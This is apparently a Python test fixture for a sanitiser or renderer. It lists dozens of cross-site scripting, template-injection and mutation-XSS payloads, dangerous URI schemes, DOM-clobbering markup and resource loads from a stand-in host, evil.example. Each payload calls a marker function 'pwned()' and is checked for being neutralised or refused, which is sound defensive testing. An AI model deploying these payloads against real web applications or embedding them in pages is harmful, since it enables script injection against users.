"""Texts that would call ``pwned`` if anything of them ran, or load something from elsewhere."""

TEMPLATES = ["{{7*7}}", "{% raw %}{% for x in y %}", "${7*7}", "#{7*7}", "{{ ''.__class__ }}"]
"""Code of templates: every one must stand on the page as it was written."""

ADDRESSES = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", "&#1;javascript:pwned()",
    "&#106;avascript:pwned()", "javascript&colon;pwned()", "jav&#x09;ascript:pwned()",
    "vbscript:pwned()", "data:text/html,<script>pwned()</script>", "data:image/svg+xml,<svg/>",
    "blob:https://evil.example/x", "file:///etc/passwd", "//evil.example/x",
    "feed:javascript:pwned()", "view-source:javascript:pwned()", "filesystem:https://evil.example",
]  # fmt: skip

HTML = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "</title></style></textarea></script><script>pwned()</script>",
    '"><script>pwned()</script><b title="',
    "'><img src=dot.png onerror=pwned() onload=pwned()>",
    "]]><script>pwned()</script><![CDATA[",
    "<svg onload=pwned()><script>pwned()</script><animate onbegin=pwned() attributeName=x>",
    "<svg><a xlink:href='javascript:pwned()'><text x=9 y=9>x</text></a></svg>",
    "<svg><style><img src=dot.png onload=pwned()></style></svg>",
    "<math><annotation-xml encoding='text/html'><script>pwned()</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!-- --></style><img title='--&gt;&lt;img src=dot.png onload=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=dot.png onload=pwned()>'></noscript>",
    "<template><script>pwned()</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=dot.png onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src='javascript:parent.pwned()'></iframe>",
    "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; * {background: url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x);width:expression(pwned())'>x</p>",
    "<form action='javascript:pwned()'><button formaction='javascript:pwned()'>Go</button></form>",
    "<input autofocus onfocus=pwned() type=image src='https://evil.example/x'>",
    "<details open ontoggle=pwned()><summary onclick=pwned()>More</summary>x</details>",
    "<video src='https://evil.example/x' onerror=pwned() autoplay><source onerror=pwned()></video>",
    "<img srcset='https://evil.example/x 1x' src=dot.png onload=pwned()>",
    "<img src='https://evil.example/x.gif' onerror=pwned()>",
    "<img src='\\\\evil.example\\x'> <img src='/\\evil.example/x'> <img src='ht&#9;tps://evil.example/x'>",
    "<a href='https://evil.example/' ping='https://evil.example/ping' onclick=pwned()>x</a>",
    "<p tabindex=0 onfocus=pwned() onmouseover=pwned() onpointerenter=pwned()>x</p>",
    "<div id=location><a id=document name=document></a><form id=forms name=body></form></div>",
    "<img name=body id=__proto__ src=dot.png><a id=pwned></a><a id=getElementById></a>",
    "<table background='https://evil.example/x'><td background='https://evil.example/x'>x</table>",
    "<!--><script>pwned()</script>-->",
    "<!-- --!><script>pwned()</script> -->",
    "<?php pwned() ?><% pwned() %>",
    "<![CDATA[<script>pwned()</script>]]>",
    "<!DOCTYPE x [<!ENTITY e '<script>pwned()</script>'>]>&e;",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e \u02c2script\u02c3",
    "\u202e\u2066<script>pwned()</script>\u2069 \u200b<scr\u200bipt>pwned()</scr\u200bipt>",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    "x' onclick='pwned()' y='",
    'x" onmouseover="pwned()" y="',
    "x` onfocus=pwned() autofocus `",
    "' + pwned() + '",
    "*/pwned()/*",
    "<xss onpointerenter=pwned() contenteditable>x</xss>",
    "<select><option><img src=dot.png onload=pwned()></select><textarea><img src=dot.png onload=pwned()>",
]  # fmt: skip

MARKDOWN = [
    *(f"[x]({it}) ![z]({it})" for it in ADDRESSES),
    *(f"[y](<{it}>) ![z](<{it}> 'title')" for it in ADDRESSES if "<" not in it),
    *(f"<a href='{it}'>x</a> <img src='{it}'>" for it in ADDRESSES),
    *(f"<{it}>" for it in ADDRESSES[:4]),
    '[x]\n\n[x]: javascript:pwned() "title" \n',
    '[x](https://a.example "\\" onclick=pwned() x=\\"")',
    "![\" onload=\"pwned()](dot.png '\" onload=\"pwned()')",
    "# Heading {: onclick=pwned() id=location }\n\ntext\n{: onclick=pwned() }",
    "### location\n\n### <script>pwned()</script>",
    '```"><script>pwned()</script>\n<script>pwned()</script>\n```',
    "``` {.x onclick=pwned() id=location}\n<script>pwned()</script>\n```",
    "x[^<script>pwned()</script>] y[^1]\n\n[^<script>pwned()</script>]: n\n[^1]: <img src=dot.png onload=pwned()>",
    '*[AB]: " onmouseover="pwned()\n\nAB',
    "- [ ] <input onfocus=pwned() autofocus>\n- [x] <script>pwned()</script>",
    '| a" onclick=pwned() | b |\n|:-:"|--|\n| <script>pwned()</script> | x |\n\n| a | b |\n|:-:|--|\n| <img src=dot.png onload=pwned()> | `<script>` |',
    "term<script>pwned()</script>\n:   <svg onload=pwned()>",
]  # fmt: skip

ONE_LINE = [*TEMPLATES, *HTML, *ADDRESSES]
"""What any text may hold."""

EVERY = [*TEMPLATES, *HTML, *MARKDOWN]
"""What an entry may hold."""

NAMES = [
    "<img src=x onerror=pwned()>", 'a" onerror="pwned()', "a' onload='pwned()",
    "javascript:pwned()", "{{7*7}}", "x)](javascript:pwned())", "&#60;script&#62;pwned()",
    "%3Cscript%3Epwned()", "--><svg onload=pwned()>", "\uff1cscript\uff1epwned()",
]  # fmt: skip
"""What the name of a file may hold, before its ending."""

REFUSED = {
    "[x](java\tscript:pwned())": "link",
    "<a href='java\tscript:pwned()'>x</a>": "link",
    "<!-- <script>pwned()</script>": "comment",
    "<script>\0pwned()</script>": "control",
    "![x](<data:image/svg+xml,<svg onload=pwned()>>)": "link",
    "[" * 5000 + "](javascript:pwned())": "markdown",
}
"""What is not published at all, with the code of the problem that says so."""
